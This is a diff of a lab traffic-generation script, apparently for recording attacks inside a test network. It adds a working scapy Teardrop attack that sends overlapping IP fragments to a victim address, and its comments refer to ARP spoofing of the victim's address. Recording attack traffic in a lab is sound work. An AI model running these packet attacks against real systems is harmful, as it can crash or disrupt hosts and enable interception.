@@ -143,6 +143,18 @@ for i in range(200):
         pass
     s.close(); time.sleep(0.1)'
 
+# Teardrop (scapy): ten UDP datagrams of two fragments each, the second starting inside the
+# first (offset 24 of 36 bytes).
+record teardrop 20 env VMAC="$VMAC" /usr/bin/python3 -c '
+import os
+from scapy.all import Ether, IP, sendp
+frames = []
+for i in range(10):
+    head = IP(src="10.9.0.2", dst="10.9.0.10", id=4200 + i, flags="MF", frag=0, proto=17) / (b"X" * 36)
+    tail = IP(src="10.9.0.2", dst="10.9.0.10", id=4200 + i, frag=3, proto=17) / (b"Y" * 20)
+    frames += [Ether(dst=os.environ["VMAC"]) / head, Ether(dst=os.environ["VMAC"]) / tail]
+sendp(frames, iface="ra", inter=0.05, verbose=False)'
+
 # --- the link layer ---
 # Gratuitous ARP (arping -U, then -A) claiming the victim's 10.9.0.11 for the attacker's MAC,
 # after the attacker resolved it from the victim itself.
